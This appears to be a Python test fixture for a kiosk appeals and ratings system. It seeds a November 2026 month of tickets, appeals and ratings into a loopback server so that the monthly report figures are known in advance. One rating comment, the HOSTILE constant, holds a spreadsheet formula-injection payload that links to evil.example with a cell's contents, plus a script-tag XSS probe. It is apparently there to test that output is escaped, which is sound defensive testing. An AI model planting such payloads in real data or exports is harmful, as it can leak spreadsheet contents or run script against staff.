"""A known month (November 2026) of kiosk activity for the report tests.

Tickets, appeals and ratings are made by the kiosk's own code (``issue_ticket``,
``submit_appeal``, ``submit_rating``) in each kiosk's own database, and reach the server
the way they do in the field: the kiosk's outbox sender over HTTP to the kiosk API.
Appeals then get their statuses through :func:`sync.server.audit.change_status` at chosen
moments, so every figure of the report is known in advance.

Akimats (from the console fixtures): *karasu* and *zhibek* in *arshaly*, *ozen* in *bulandy*.
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx

from kiosk.appeals import prepare_draft, submit_appeal
from kiosk.applicant import Applicant
from kiosk.catalogue import Catalogue
from kiosk.i18n import Language, Translator
from kiosk.queue.actions import perform
from kiosk.queue.desks import add_desk
from kiosk.ratings import submit_rating
from kiosk.storage import open_database, outbox_counts
from kiosk.storage.outbox import OutboxState
from kiosk.tickets import issue_ticket
from sync.http import ServerClient
from sync.sender import OutboxSender
from sync.server.accounts import Account, Accounts
from sync.server.app import create_app
from sync.server.audit import change_status
from sync.server.console.web import COOKIE
from sync.server.store import ServerStore
from tests.conftest import ALMATY, at
from tests.sync.server.console.conftest import (
    KIOSKS,
    PASSWORD,
    Clock,
    Staff,
    add_accounts,
    session_cookie,
)
from tests.sync.server.live import serving

#: The report is read on Thursday 10 December 2026, 10:00 in Almaty.
TODAY = dt.datetime(2026, 12, 10, 10, 0, tzinfo=ALMATY)
MONTH = "2026-11"
HOSTILE = ('=HYPERLINK("http://evil.example/?q="&A1;"Open") '
           '<script>alert("x")</script> <b>bold</b> & “quotes”')
KIND_WORDS = "Рахмет, бәрі жылдам әрі сыпайы болды"
PEOPLE = {
    "karasu-01": Applicant.parse("Әлия Нұрланқызы", "900101400003", "8 701 234 56 78"),
    "zhibek-01": Applicant.parse("Дәурен Асқарұлы", "900101400003", "8 701 234 56 79"),
    "ozen-01": Applicant.parse("Самат Қайратұлы", "900101400003", "8 701 234 56 70"),
}

#: name -> (kiosk, appeal type, submitted (local), final status or "", when it was set)
#: "when" is a day offset from the appeal's deadline and a local time, or a fixed moment.
APPEALS: dict[str, tuple[str, str, dt.datetime, str, tuple[int, int, int] | dt.datetime]] = {
    "on_deadline": ("karasu-01", "application", at(2026, 11, 3, 10), "answered", (0, 23, 59)),
    "day_late": ("karasu-01", "application", at(2026, 11, 3, 11), "answered", (1, 9, 0)),
    # 00:30 in Almaty the day after the deadline is still the deadline day in UTC: late.
    "after_midnight": ("karasu-01", "complaint", at(2026, 11, 4, 10), "answered", (1, 0, 30)),
    "rejected_early": ("karasu-01", "complaint", at(2026, 11, 5, 10), "rejected",
                       at(2026, 11, 10, 11)),
    "forwarded": ("karasu-01", "proposal", at(2026, 11, 6, 10), "forwarded",
                  at(2026, 11, 9, 15)),
    "overdue": ("karasu-01", "application", at(2026, 11, 10, 10), "", (0, 0, 0)),
    "not_due": ("karasu-01", "complaint", at(2026, 11, 27, 10), "in_progress",
                at(2026, 11, 30, 10)),
    "october": ("karasu-01", "application", at(2026, 10, 20, 10), "", (0, 0, 0)),
    "b_on_time": ("zhibek-01", "application", at(2026, 11, 4, 10), "answered",
                  at(2026, 11, 12, 16)),
    "b_overdue": ("zhibek-01", "complaint", at(2026, 11, 5, 10), "", (0, 0, 0)),
    "c_overdue": ("ozen-01", "application", at(2026, 11, 4, 10), "", (0, 0, 0)),
}
#: kiosk -> [(department, local moment)]
TICKETS = {
    "karasu-01": [("social", at(2026, 11, 3, 10)), ("social", at(2026, 11, 3, 11)),
                  ("social", at(2026, 11, 4, 10)), ("land", at(2026, 11, 4, 10)),
                  ("land", at(2026, 11, 4, 11)), ("social", at(2026, 12, 1, 10))],
    "zhibek-01": [("farm", at(2026, 11, 5, 10)), ("farm", at(2026, 11, 5, 11))],
    "ozen-01": [("housing", at(2026, 11, 5, 10))],
}
#: kiosk -> [(score, reasons, comment, department, local moment)]
RATINGS: dict[str, list[tuple[int, list[str], str, str | None, dt.datetime]]] = {
    "karasu-01": [
        (5, ["fast", "polite"], KIND_WORDS, "social", at(2026, 11, 3, 12)),
        (5, ["polite"], "", "land", at(2026, 11, 4, 12)),
        (4, [], "", None, at(2026, 11, 5, 12)),
        (2, ["long-wait"], "Кезек өте ұзақ болды", "social", at(2026, 11, 6, 12)),
        (1, ["rude", "long-wait"], HOSTILE, "land", at(2026, 11, 9, 12)),
        (1, ["rude"], "December is not November", "land", at(2026, 12, 2, 12)),
    ],
    "zhibek-01": [(3, ["unclear-info"], "Ақпарат түсініксіз", "farm", at(2026, 11, 5, 12))],
    "ozen-01": [(5, ["fast"], "Ozen is another district", "housing", at(2026, 11, 5, 12))],
}


@dataclass
class ReportWorld:
    """The server with the month's records, and each appeal's record id and deadline."""

    url: str
    store: ServerStore
    clock: Clock
    catalogue: Catalogue
    ids: dict[str, int] = field(default_factory=dict)
    deadlines: dict[str, dt.date] = field(default_factory=dict)
    clients: list[httpx.Client] = field(default_factory=list)

    def account(self, login: str) -> Account:
        """A staff account of the fixtures."""
        found = Accounts(self.store.db, self.clock).get(login)
        assert found is not None
        return found

    def sign_in(self, login: str) -> Staff:
        """Sign in through the login form (the Secure cookie is set on the client by hand)."""
        http = httpx.Client(base_url=self.url, timeout=30, follow_redirects=False)
        self.clients.append(http)
        answer = http.post("/staff/login", data={"login": login, "password": PASSWORD,
                                                 "next": "/staff/"})
        assert answer.status_code == 303, (login, answer.status_code, answer.text[:300])
        cookie = session_cookie(answer)
        assert cookie, "no session cookie after signing in"
        http.cookies.set(COOKIE, cookie)
        return Staff(http, login, cookie)

    def audit_rows(self) -> list[tuple[Any, ...]]:
        """(login, action, record_id, detail) of every audit row, oldest first."""
        return self.store.db.query("SELECT login, action, record_id, detail FROM staff_audit "
                                   "ORDER BY id")

    def record_id(self, uuid: str) -> int:
        """The server's id of a record sent with this uuid."""
        return int(self.store.db.query("SELECT id FROM records WHERE uuid = ?", (uuid,))[0][0])

    def set_status(self, name: str, status: str, moment: dt.datetime,
                   login: str = "district.arshaly") -> None:
        """Change an appeal's status as staff at ``moment`` (the console's own function)."""
        change_status(self.store.db, lambda: moment.astimezone(dt.UTC).isoformat(),
                      self.account(login), self.ids[name], "appeal", status=status,
                      reply="Жауап берілді." if status == "answered" else None)


def _kiosk_records(tmp_path: Path, catalogue: Catalogue, kiosk_id: str, base: str,
                   token: str) -> dict[str, tuple[str, dt.date]]:
    """Make the kiosk's records in its own database and send them; the appeals made."""
    db = open_database(tmp_path / f"{kiosk_id}.sqlite3")
    made = {}
    try:
        for department, moment in TICKETS.get(kiosk_id, []):
            issue_ticket(db, catalogue, department, moment, Language.KK)
        if kiosk_id == "karasu-01":  # a desk calls the first two social tickets of 3 November
            add_desk(db, catalogue, "social-1", department="social", room="103",
                     specialist="S", now=TODAY, password="desk-password-1")
            start = at(2026, 11, 3, 12)
            perform(db, catalogue, "social-1", "call", start)  # waited 2 h
            perform(db, catalogue, "social-1", "serve", start + dt.timedelta(minutes=6))
            perform(db, catalogue, "social-1", "call", start + dt.timedelta(minutes=6))
            perform(db, catalogue, "social-1", "no_show", start + dt.timedelta(minutes=8))
        for name, (kiosk, appeal_type, moment, _, _) in APPEALS.items():
            if kiosk != kiosk_id:
                continue
            draft = prepare_draft(catalogue, appeal_type=appeal_type, topic=f"Тақырып {name}",
                                  text="Көшеде шам жанбайды.", applicant=PEOPLE[kiosk_id],
                                  consent=True, language=Language.KK, text_max=3000)
            appeal = submit_appeal(db, catalogue, kiosk_id, draft, moment)
            made[name] = (appeal.uuid, appeal.deadline)
        for score, reasons, comment, department, moment in RATINGS.get(kiosk_id, []):
            submit_rating(db, catalogue, score=score, reasons=reasons, comment=comment,
                          department=department, language=Language.KK, now=moment,
                          comment_max=500)
        sender = OutboxSender(db, ServerClient(base, token), kiosk_id, clock=lambda: TODAY)
        report = sender.send_due()
        assert report.rejected == 0, report.rejected_reasons
        assert outbox_counts(db)[OutboxState.PENDING] == 0, report.error
    finally:
        db.close()
    return made


@contextmanager
def report_world(database_url: str, translator: Translator, catalogue: Catalogue,
                 tmp_path: Path) -> Iterator[ReportWorld]:
    """The real server on loopback with the month of :data:`APPEALS`, tickets and ratings."""
    clock = Clock(TODAY.astimezone(dt.UTC))
    store = ServerStore.open(database_url, clock=clock)
    tokens = {kiosk_id: store.add_kiosk(kiosk_id, district, akimat=akimat)
              for kiosk_id, (akimat, district) in KIOSKS.items()}
    add_accounts(store, clock)
    try:
        with serving(create_app(store, translator=translator, catalogue=catalogue)) as base:
            world = ReportWorld(base, store, clock, catalogue)
            for kiosk_id in KIOSKS:
                made = _kiosk_records(tmp_path, catalogue, kiosk_id, base, tokens[kiosk_id])
                for name, (uuid, deadline) in made.items():
                    world.ids[name] = world.record_id(uuid)
                    world.deadlines[name] = deadline
            for name, (_, _, _, status, when) in APPEALS.items():
                if not status:
                    continue
                if isinstance(when, dt.datetime):
                    moment = when
                else:
                    days, hour, minute = when
                    moment = at(*(world.deadlines[name] + dt.timedelta(days=days)).timetuple()
                                [:3], hour, minute)
                world.set_status(name, status, moment)
            try:
                yield world
            finally:
                for http in world.clients:
                    http.close()
    finally:
        store.close()
